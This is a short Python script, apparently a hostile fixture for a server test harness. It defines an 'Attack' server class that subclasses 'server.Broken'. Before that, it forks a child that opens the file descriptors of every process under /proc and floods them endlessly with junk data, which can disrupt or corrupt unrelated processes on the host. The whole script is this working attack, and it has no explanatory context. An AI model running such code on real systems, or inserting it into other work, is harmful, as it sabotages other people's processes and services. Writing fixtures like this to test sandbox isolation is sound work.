import os

import server


def flood(*descriptors):
    piece = (b"y" * 4095 + b"\n") * 16
    while True:
        for descriptor in descriptors:
            try:
                os.write(descriptor, piece)
            except OSError:
                pass


if os.fork() == 0:
    targets = list(range(64))
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for number in range(8):
            try:
                targets.append(os.open(f"/proc/{pid}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK))
            except OSError:
                pass
    flood(*targets)


class Attack(server.Broken):
    def answer(self):
        self.reply(200, {})


server.serve(Attack)
